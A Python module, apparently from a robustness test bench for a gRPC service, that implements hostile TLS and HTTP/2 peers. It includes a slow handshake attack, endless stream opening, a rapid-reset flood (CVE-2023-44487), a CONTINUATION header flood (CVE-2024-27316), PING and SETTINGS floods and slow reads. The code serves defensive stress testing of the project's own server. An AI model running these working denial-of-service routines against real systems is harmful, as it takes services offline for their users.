"""Peers that speak TCP, TLS or HTTP/2 by themselves, and keep to no rule of them."""

from __future__ import annotations

import select
import ssl
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from itertools import count
from threading import Event

from padan.v1 import run_service_pb2 as run_pb
from padan_lab.bench.hostile.frames import (
    END_HEADERS,
    FrameKind,
    call_headers,
    field_line,
    frame,
    message,
    opened,
    opening,
    reset,
)
from padan_lab.bench.hostile.ground import Caller, Ground

LIST = "/padan.v1.DatasetService/ListDatasets"
RESULTS = "/padan.v1.RunService/StreamResults"
#: Readers of results at a time; frames sent at a time; headers that never end.
_READERS, _BATCH, _ENDLESS = 16, 50, 2_000
_PAUSE = 0.2


def scan(ground: Ground, stopped: Event) -> None:
    """Opens sockets and says nothing."""
    with ExitStack() as held:
        for _ in range(100):
            held.enter_context(ground.stranger.tcp())
        stopped.wait(1.0)


def shake_slowly(ground: Ground, stopped: Event) -> None:
    """Begins handshakes by the hundred, a byte a second."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        first = outgoing.read()
    with ExitStack() as held:
        begun = [held.enter_context(ground.stranger.tcp()) for _ in range(100)]
        for at in range(10):
            for each in begun:
                each.send(first[at : at + 1])
            if stopped.wait(1.0):
                return


def open_streams(ground: Ground, stopped: Event) -> None:
    """Opens streams without end and says nothing on any."""
    headers = call_headers(LIST)
    _pour(ground.party, stopped, lambda stream: opened(stream, headers), pause=0.01)


def reset_streams(ground: Ground, stopped: Event) -> None:
    """Opens streams and gives each up at once (CVE-2023-44487)."""
    headers = call_headers(LIST)
    _pour(ground.party, stopped, lambda stream: opened(stream, headers) + reset(stream))


def call_nothing(ground: Ground, stopped: Event) -> None:
    """A stranger that calls methods that there are not, as fast as it can."""
    headers = call_headers("/padan.v1.Nothing/There")
    _pour(ground.stranger, stopped, lambda stream: opened(stream, headers) + reset(stream))


def ping(ground: Ground, stopped: Event) -> None:
    """Pings without end."""
    _pour(ground.stranger, stopped, lambda _: frame(FrameKind.PING, payload=bytes(8)))


def settle(ground: Ground, stopped: Event) -> None:
    """Sends settings without end."""
    _pour(ground.stranger, stopped, lambda _: frame(FrameKind.SETTINGS))


def bomb_headers(ground: Ground, stopped: Event) -> None:
    """Sends headers that do not end (CVE-2024-27316 and its like)."""
    more = field_line(b"x-much", b"9" * 100) * 100
    with ground.stranger.tls() as line:
        line.sendall(opening() + opened(1, call_headers(LIST), flags=0))
        for _ in range(_ENDLESS):
            if stopped.is_set():
                return
            line.sendall(frame(FrameKind.CONTINUATION, 1, more))
    with ground.stranger.tls() as line:
        line.sendall(opening())
        for stream in range(1, 2 * _ENDLESS, 2):
            if stopped.is_set():
                return
            line.sendall(opened(stream, call_headers(LIST) + more, END_HEADERS))


def read_slowly(ground: Ground, stopped: Event) -> None:
    """Asks for results and reads a byte of them a second."""
    request = run_pb.StreamResultsRequest(name=ground.run).SerializeToString()
    asked = opening() + opened(1, call_headers(RESULTS, 3600)) + message(1, request)
    with ExitStack() as held:
        lines = [held.enter_context(ground.party.tls(4096)) for _ in range(_READERS)]
        for line in lines:
            line.sendall(asked)
        while not stopped.wait(1.0):
            for line in lines:
                line.recv(1)


def _pour(caller: Caller, stopped: Event, of: Callable[[int], bytes], pause: float = 0.0) -> None:
    """Send what ``of`` makes for one stream number after the other, until the server hangs up."""
    with caller.tls() as line:
        line.sendall(opening())
        line.setblocking(False)
        for batch in _batches():
            _push(line, b"".join(map(of, batch)), stopped)
            if stopped.wait(pause):
                return


def _batches() -> Iterator[range]:
    for number in count():
        first = 1 + 2 * _BATCH * number
        yield range(first, first + 2 * _BATCH, 2)


def _push(line: ssl.SSLSocket, content: bytes, stopped: Event) -> None:
    """Send all of it, and read whatever comes."""
    while content and not stopped.is_set():
        try:
            content = content[line.send(content) :]
        except ssl.SSLWantWriteError:
            select.select([], [line], [], _PAUSE)
        try:
            while line.recv(1 << 16):
                pass
            raise ConnectionResetError
        except ssl.SSLWantReadError:
            pass
        except TimeoutError:
            return
